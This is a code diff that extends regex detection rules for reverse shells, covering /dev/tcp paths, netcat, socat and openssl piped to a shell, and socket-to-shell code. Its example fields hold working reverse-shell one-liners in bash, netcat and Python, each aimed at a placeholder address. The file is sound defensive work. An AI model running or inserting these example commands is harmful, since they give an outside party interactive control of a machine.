@@ -92,7 +92,8 @@ export const reverseShell = rulesOf("reverse-shell", {
     severity: "critical",
     title: "A shell talks to a network address",
     on: runOrTold,
-    pattern: /\/dev\/(?:tcp|udp)\/[\w.$@{}<>-]{1,80}\/[\w$@{}<>]{1,10}/i,
+    pattern:
+      /\/dev\/(?:tcp|udp)\/[\w.$@{}<>-]{1,80}\/[\w$@{}<>]{1,10}|\/inet[46]?\/(?:tcp|udp)\/\w{1,6}\/[\w.$@{}<>-]{1,80}\/[\w$@{}<>]{1,10}/i,
     example: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
     nearMiss: "bash -i >& /dev/pts/4 0>&1",
   },
@@ -102,7 +103,7 @@ export const reverseShell = rulesOf("reverse-shell", {
     title: "netcat or socat hands out a shell",
     on: runOrTold,
     pattern:
-      /\b(?:nc|ncat|netcat|nc\.traditional|nc\.exe)\b(?=[^\n]{0,120}\s-{1,2}(?:\w{0,6}[ec]|exec|sh-exec)\s["']?\S{0,20}(?:sh|cmd(?:\.exe)?|powershell)\b)|\bsocat\b[^\n]{0,120}\b(?:exec|system):|\bmkfifo\b[^\n]{1,160}\b(?:nc|ncat|netcat|openssl s_client|telnet)\b|\b(?:nc|ncat|telnet)\b[^\n|]{3,80}\|\s?(?:\/bin\/)?(?:ba|z)?sh\b\s?(?:-i\s?)?(?:2>&1\s?)?(?:\||$|[\n;&"'`)])/i,
+      /\b(?:nc|ncat|netcat|nc\.traditional|nc\.exe)\b(?=[^\n]{0,120}\s-{1,2}(?:\w{0,6}[ec]|exec|sh-exec)\s["']?\S{0,20}(?:sh|cmd(?:\.exe)?|powershell)\b)|\bsocat\b[^\n]{0,120}\b(?:exec|system):|\bmkfifo\b[^\n]{1,160}\b(?:nc|ncat|netcat|openssl s_client|telnet)\b|\b(?:nc|ncat|telnet|openssl s_client)\b[^\n|]{3,120}\|\s?(?:\/bin\/)?(?:ba|z)?sh\b\s?(?:-i\s?)?(?:2>&1\s?)?(?:\||$|[\n;&<>"'`)])/i,
     example: "nc -e /bin/sh 203.0.113.9 4444",
     nearMiss: "nc -vz 203.0.113.9 4444",
   },
@@ -112,7 +113,7 @@ export const reverseShell = rulesOf("reverse-shell", {
     title: "A program ties a socket to a shell",
     on: runOrTold,
     pattern:
-      /(?:socket\.socket|socket\.create_connection|use Socket|TCPSocket|fsockopen|net\.(?:connect|Socket|createConnection)|Net\.Sockets\.TCPClient)\b[\s\S]{1,300}(?:os\.dup2|pty\.spawn|subprocess\.(?:call|run|Popen)|exec\s?[({"]|\/bin\/(?:ba)?sh|spawn\s?\(|cmd\.exe|Invoke-Expression|\biex\b|proc_open)/i,
+      /(?:socket\.socket|socket\.create_connection|use Socket|TCPSocket|fsockopen|net\.(?:connect|Socket|createConnection)|Net\.Sockets\.TCPClient|socket\.(?:tcp|connect)|luasocket|(?<=["']socket["']\)\.)tcp)\b[\s\S]{1,300}(?:os\.dup2|os\.execute|io\.popen|pty\.spawn|subprocess\.(?:call|run|Popen)|exec\s?[({"]|\/bin\/(?:ba)?sh|spawn\s?\(|cmd\.exe|Invoke-Expression|\biex\b|proc_open)/i,
     example:
       "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);pty.spawn('sh')",
     nearMiss:
